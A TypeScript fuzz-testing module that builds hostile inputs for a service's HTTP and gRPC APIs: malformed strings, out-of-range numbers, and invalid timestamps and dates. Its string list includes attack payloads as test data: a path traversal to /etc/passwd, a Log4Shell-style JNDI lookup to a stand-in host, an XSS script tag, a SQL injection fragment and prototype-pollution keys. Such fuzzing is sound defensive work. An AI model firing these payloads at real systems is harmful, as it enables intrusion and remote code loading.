import fc from 'fast-check';

/**
 * Values a hostile or careless client sends where a field is expected, shared by the HTTP and
 * the gRPC fuzz: strings that break parsers, logs and id rules, numbers at and past every bound
 * the service documents (README "Limits"), and times and dates that look right but are not.
 */

/** Strings chosen for what they break; random ones come from `hostileString`. */
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  'line\nbreak',
  '\r\n\r\n',
  '\t',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u2028\u2029',
  '\u202eevil',
  '\ufeffUS01',
  'zero\u200bwidth',
  '😀',
  '\ud800',
  '\udfff\ud800',
  'e\u0301',
  'Ａ１',
  '../../etc/passwd',
  '..',
  '/',
  '%00',
  '%2F',
  '${jndi:ldap://x/a}',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '0x10',
  'true',
  '[]',
  '{}',
  'US01 ',
  ' web',
  'WEB',
  'usd',
  'a'.repeat(64),
  'a'.repeat(65),
  'a'.repeat(128),
  'a'.repeat(129),
  'a'.repeat(513),
  'x'.repeat(5_000),
];

/** Times: right shape with a wrong value, wrong shape, out of range in UTC. */
export const HOSTILE_INSTANTS = [
  '2026-11-27T09:30:00+25:00',
  '2026-11-27T09:30:00-24:00',
  '2026-11-27T09:30:00+14:01',
  '2026-11-27T09:30:00+14:00',
  '2026-11-27T09:30:00-14:00',
  '2026-11-27T09:30:00+05:60',
  '2026-11-27T09:30:00+0530',
  '2026-11-27T09:30:00+05',
  '2026-12-31T23:59:60Z',
  '2016-12-31T23:59:60Z',
  '2026-02-29T00:00:00Z',
  '2024-02-29T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '2026-04-31T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-00-10T00:00:00Z',
  '2026-11-00T00:00:00Z',
  '2026-11-27T24:00:00Z',
  '2026-11-27T23:60:00Z',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '0001-01-01T00:00:00+14:00',
  '9999-12-31T23:59:59Z',
  '9999-12-31T23:59:59-14:00',
  '10000-01-01T00:00:00Z',
  '+010000-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-11-27T10:00Z',
  '2026-11-27T10:00:00',
  '2026-11-27',
  '2026-11-27 10:00:00Z',
  '2026-11-27t10:00:00z',
  '2026-11-27T10:00:00.123456789012345Z',
  '2026-11-27T10:00:00.Z',
  '2026-11-27T10:00:00,5Z',
  '2026-11-27T10:00:00Z\n',
  ' 2026-11-27T10:00:00Z',
  '２０２６-11-27T10:00:00Z',
  '2026-W48-5T10:00:00Z',
  '2026-331T10:00:00Z',
  '1764237600',
  'Fri, 27 Nov 2026 10:00:00 GMT',
  'now',
];

/** Calendar dates (posting days, payout dates, business dates). */
export const HOSTILE_DATES = [
  '2026-02-29',
  '2024-02-29',
  '2026-02-30',
  '2026-11-31',
  '2026-13-01',
  '2026-00-01',
  '0000-01-01',
  '10000-01-01',
  '2026-1-1',
  '20261127',
  '2026-11-27T00:00:00Z',
  '2026-11-27 ',
  '2026/11/27',
  '27.11.2026',
];

const BOUNDS = [0, 1, 2, 20, 21, 32, 33, 100, 101, 500, 501, 1_000, 1_001, 2_000, 2_001, 10_000, 10_001];

/** Numbers at and past the documented bounds, and the ones JSON and JavaScript disagree on. */
export const HOSTILE_NUMBERS = [
  ...BOUNDS,
  ...BOUNDS.map((n) => -n),
  -0,
  0.5,
  -0.5,
  1.5,
  0.1 + 0.2,
  1e-7,
  Number.MIN_VALUE,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 32,
  2 ** 53 - 1,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  1e12,
  1e12 + 1,
  -1e12,
  -1e12 - 1,
  2e12,
  1e15,
  1e21,
  1e300,
  -1e308,
  Number.MAX_VALUE,
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom('-', ':', '/', '.', '_', 'a', '0'), maxLength: 20 }) },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.maxSafeInteger() },
);

/** A time string from parts that may each be out of range, beside the chosen ones. */
export const hostileInstant: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_INSTANTS) },
  {
    weight: 2,
    arbitrary: fc
      .record({
        year: fc.integer({ min: 0, max: 10_000 }),
        month: fc.integer({ min: 0, max: 13 }),
        day: fc.integer({ min: 0, max: 32 }),
        hour: fc.integer({ min: 0, max: 25 }),
        minute: fc.integer({ min: 0, max: 61 }),
        second: fc.integer({ min: 0, max: 61 }),
        fraction: fc.option(fc.stringMatching(/^[0-9]{1,12}$/), { freq: 3 }),
        offset: fc.oneof(fc.constant('Z'), fc.record({ sign: fc.constantFrom('+', '-'), h: fc.integer({ min: 0, max: 26 }), m: fc.integer({ min: 0, max: 61 }) })),
      })
      .map(({ year, month, day, hour, minute, second, fraction, offset }) => {
        const two = (n: number) => String(n).padStart(2, '0');
        const zone = typeof offset === 'string' ? offset : `${offset.sign}${two(offset.h)}:${two(offset.m)}`;
        return `${String(year).padStart(4, '0')}-${two(month)}-${two(day)}T${two(hour)}:${two(minute)}:${two(second)}${fraction === null ? '' : `.${fraction}`}${zone}`;
      }),
  },
);

export const hostileDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_DATES),
  fc
    .record({ year: fc.integer({ min: 0, max: 10_000 }), month: fc.integer({ min: 0, max: 13 }), day: fc.integer({ min: 0, max: 32 }) })
    .map(({ year, month, day }) => `${String(year).padStart(4, '0')}-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}`),
);

/** A value of any JSON type, small: what lands where another type was expected. */
export const wrongTypeValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  hostileString,
  fc.constant([]),
  fc.constant({}),
  fc.constant([[]]),
  fc.constant([null]),
  fc.constant({ '': null }),
  fc.jsonValue({ maxDepth: 3 }),
);
